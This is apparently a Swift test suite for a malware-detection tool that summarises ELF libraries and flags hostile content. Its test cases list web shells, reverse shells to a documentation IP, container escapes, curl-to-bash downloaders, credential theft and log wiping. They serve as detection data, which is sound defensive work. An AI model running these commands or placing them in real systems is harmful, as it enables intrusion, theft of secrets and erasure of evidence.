import Artifacts
import CaseModel
import HostFacts
import Testing

@Suite struct ContentTests {
  @Test func anELFLibraryIsSummarised() throws {
    let bytes = try Fixtures.bytes("preload-x86_64.so")
    let summary = try #require(ELFSummaryReader.read(bytes))
    #expect(summary.type == "shared" && summary.machine == "x86_64" && !summary.isPacked && !summary.isStripped)
    #expect(
      summary.needed.map(\.text) == ["libc.so.6"] && summary.runPath?.text == "/opt/lib" && summary.interpreter == nil)
    #expect(summary.buildID == "e8c9b67ecca6a989318fead6ae6480590ecbc823")
    #expect(Set(summary.interposes.map(\.text)) == ["readdir64", "accept"])
    #expect(ELFSummaryReader.interestingStrings(bytes).contains { $0.text == "/dev/shm/.hide-me" })
    #expect(summary.texts.contains { $0.text == "/dev/shm/.hide-me" })
  }

  @Test func aDamagedELFIsSurvived() throws {
    let bytes = try Fixtures.bytes("preload-x86_64.so")
    for length in stride(from: 0, to: bytes.count, by: 37) { _ = ELFSummaryReader.read(Array(bytes.prefix(length))) }
    var random = SplitMix(seed: 11)
    for _ in 0..<500 {
      var damaged = bytes
      for _ in 0..<4 { damaged[Int(random.next() % 1024)] = UInt8(truncatingIfNeeded: random.next()) }
      _ = ELFSummaryReader.read(damaged)
      _ = ELFSummaryReader.interestingStrings(damaged)
    }
    #expect(ELFSummaryReader.read(Array("#!/bin/sh\n".utf8)) == nil)
  }

  @Test func aFileWithThePackersMarkIsPacked() throws {
    var bytes = try Fixtures.bytes("preload-x86_64.so")
    bytes.replaceSubrange(bytes.count - 32..<bytes.count - 28, with: Array("UPX!".utf8))
    #expect(ELFSummaryReader.read(bytes)?.isPacked == true)
  }

  @Test(arguments: [
    ("<?php eval($_POST['x']); ?>", "php-eval-request"),
    ("<?php @ev\"; assert ( $_REQUEST [\"a\"] ) ;", "php-eval-request"),
    ("<?php $a='sys'.'tem'; ('sys'.'tem')($_GET['c']); ?>", "php-system-request"),
    ("<?php $c = $_GET['c'];\necho shell_exec($c);", "php-system-request"),
    ("<?= `$_GET[0]`?>", "php-system-request"), ("<?php $_GET[0]($_GET[1]); ?>", "php-function-request"),
    ("<?php eval(gzinflate(base64_decode('abc'))); ?>", "php-eval-decoded"),
    ("<?php eval /* x */ ($_COOKIE[1]); ?>", "php-eval-request"),
    ("<?php \"\\x73ystem\"($_POST[1]);", "php-system-request"),
    ("<?php include($_GET['page']); ?>", "php-include-request"),
    ("<%@page import=\"java.io.*\"%><% Runtime.getRuntime().exec(request.getParameter(\"c\")); %>", "jsp-runtime-exec"),
    ("<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"a\"],\"unsafe\");%>", "asp-eval-request"),
    ("bash -i >& /dev/tcp/203.0.113.9/4444 0>&1", "reverse-shell"), ("nc -e /bin/sh 203.0.113.9 4444", "reverse-shell"),
    ("rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4444 >/tmp/f", "reverse-shell"),
    ("socat TCP:203.0.113.9:4444 EXEC:'bash -li',pty", "reverse-shell"),
    (
      "python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"a\",1));os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
      "reverse-shell"
    ),
    (
      "perl -e 'use Socket;$i=\"a\";socket(S,PF_INET,SOCK_STREAM,1);connect(S,sockaddr_in(1,inet_aton($i)));open(STDIN,\">&S\");exec(\"/bin/sh -i\");'",
      "reverse-shell"
    ),
    ("echo 1 > /mnt/x/notify_on_release\necho /cmd > /mnt/release_agent", "container-escape"),
    ("nsenter --target 1 --mount --pid -- /bin/sh", "container-escape"),
    ("curl --unix-socket /var/run/docker.sock -d '{\"Binds\":[\"/:/h\"]}' http://x/", "container-escape"),
    (
      "for h in $(cut -d' ' -f1 ~/.ssh/known_hosts); do ssh -o StrictHostKeyChecking=no -i ~/.ssh/id_rsa $h id; done",
      "ssh-spreading"
    ),
    ("curl -fsSL http://x/a.sh | bash", "downloader-to-shell"),
    ("wget -qO- http://x | sudo -E bash -", "downloader-to-shell"),
    ("c''url http://x|s\\h", "downloader-to-shell"), ("curl${IFS}http://x|bash", "downloader-to-shell"),
    ("bash <(curl -s http://x)", "downloader-to-shell"), ("sh -c \"$(wget -qO- http://x)\"", "downloader-to-shell"),
    ("wget http://x/m -O /tmp/m; chmod +x /tmp/m; /tmp/m &", "download-and-run"),
    ("echo aWQ= | base64 -d | sh", "base64-to-shell"),
    ("eval \"$(echo aWQ= | base64 --decode)\"", "base64-to-shell"),
    ("import base64;exec(base64.b64decode('abc'))", "code-from-encoding"),
    ("./x -o stratum+tcp://pool:3333 -u abc", "crypto-miner"),
    ("cat /etc/shadow | nc 203.0.113.9 1", "credential-access"),
    ("curl http://169.254.169.254/latest/meta-data/iam/security-credentials/", "cloud-credentials"),
    ("echo /lib/x.so > /etc/ld.so.preload", "preload-write"), ("unset HISTFILE", "log-wiping"),
    ("rm -rf /var/log/auth.log", "log-wiping"),
    ("> /var/log/wtmp", "log-wiping"), ("echo 'ssh-rsa AAAA x' >> /root/.ssh/authorized_keys", "key-implant"),
    ("setenforce 0", "security-disabled"), ("sudo gcore 12", "credential-access"),
    ("ExecStart=/tmp/chisel client x", "tunnel"), ("rm -rf /var/log/*", "log-wiping"),
    ("systemctl stop auditd", "security-disabled"), ("cp /bin/bash /tmp/b; chmod 4755 /tmp/b", "setuid-shell"),
    ("chattr +i /etc/cron.d/x", "attribute-lock"),
  ])
  func signsAreFound(text: String, sign: String) {
    let signs = ContentSigns.find(Array(text.utf8))
    #expect(signs.contains { $0.name == sign }, "\(signs.map(\.name))")
  }

  @Test(arguments: [
    "cat /sys/fs/cgroup/rdma/release_agent", "nsenter -t 4242 -n ip addr",
    "docker run -v /var/run/docker.sock:/var/run/docker.sock portainer",
    "ssh -o StrictHostKeyChecking=no -i ~/.ssh/id_ed25519 deploy@app 'systemctl restart app'",
    "for h in web1 web2; do ssh -o StrictHostKeyChecking=no $h uptime; done",
    "<?php echo htmlspecialchars($_GET['q']); ?>", "<?php $f = new Filesystem($_GET['x']); ?>",
    "<?php $db->exec($_POST['x']); ?>",
    "<?php $id = $_GET['id']; system('ls'); ?>", "<?php include('header.php'); if ($_GET['x']) echo 1; ?>",
    "<?php curl_exec($_POST['x']); ?>",
    "curl -o /tmp/x http://example.com/x", "curl http://x | jq . | less", "wget http://x || echo failed",
    "cat x | base64 -d > y",
    "nc -l 4444", "nc -z host 22", "echo hello > /dev/null", "ls /etc/shadow",
    "sudo chmod 755 /usr/local/bin/bash-tool",
    "tail -f /var/log/syslog", "rm -f /var/log/myapp.log", "# the gcore command of gdb", "see ngrok docs",
    "cat /etc/ld.so.preload", "systemctl restart rsyslog", "grep rm /var/log/dpkg.log",
    "import socket\ns = socket.socket()\ns.connect(('a', 1))", "exec java -jar app.jar", "cat ~/.ssh/authorized_keys",
    "logger rotated /var/log/x | tee out", "<% String a = request.getParameter(\"a\"); out.print(a); %>",
  ])
  func ordinaryContentHasNoSign(text: String) {
    #expect(ContentSigns.find(Array(text.utf8)).map(\.name) == [])
  }

  @Test func aSignTellsItsPlaceAndMasksSecrets() {
    let text = "x=1\ncurl -H 'Authorization: Bearer abcdef' http://x | sh\n"
    let sign = ContentSigns.find(Array(text.utf8)).first
    #expect(
      sign?.offset == 4 && sign?.excerpt.text.contains("abcdef") == false && sign?.excerpt.text.contains("| sh") == true
    )
  }

  @Test func everySignIsDocumentedOnce() {
    let names = ContentSigns.catalogue.map(\.name)
    #expect(Set(names).count == names.count && ContentSigns.catalogue.allSatisfy { $0.about.hasSuffix(".") })
  }

  @Test func noiseHasNoSignAndIsSurvived() {
    var random = SplitMix(seed: 5)
    for _ in 0..<50 {
      let noise = (0..<2000).map { _ in UInt8(truncatingIfNeeded: random.next()) }
      _ = ContentSigns.find(noise)
      _ = ContentSigns.find(noise.map { $0 % 96 + 32 })
      _ = ContentKind.classify(noise)
    }
  }

  @Test(
    arguments: [
      ("#!/bin/sh\n", "script", ""), ("<?php echo 1;", "php", ""), ("GIF89a<?php eval(1);", "php", "/a.gif"),
      ("\u{7f}ELF", "elf", ""),
      ("<% x %>", "jsp", "/a.jsp"), ("-----BEGIN OPENSSH PRIVATE KEY-----\n", "ssh-private-key", ""),
      ("SQLite format 3\0", "sqlite", ""),
      ("[default]\naws_access_key_id = x\n", "aws-credentials", ""), ("PK\u{3}\u{4}", "archive-zip", ""),
      ("hello\n", "text", ""),
      ("-----BEGIN CERTIFICATE-----\n", "certificate", ""),
    ] as [(String, String, HostString)])
  func kindsOfContent(text: String, kind: String, path: HostString) {
    #expect(ContentKind.classify(Array(text.utf8), path: path) == kind)
  }

  @Test func entropyOfTextAndNoise() {
    var random = SplitMix(seed: 9)
    let noise = (0..<65_536).map { _ in UInt8(truncatingIfNeeded: random.next()) }
    #expect(CompressionEntropy.bitsPerByte(noise) > 7.9)
    #expect(CompressionEntropy.bitsPerByte([UInt8](repeating: 7, count: 100)) == 0)
    #expect(abs(CompressionEntropy.bitsPerByte([1, 2, 3, 4]) - 2) < 1e-9)
    #expect(CompressionEntropy.bitsPerByte([]) == 0)
  }
}
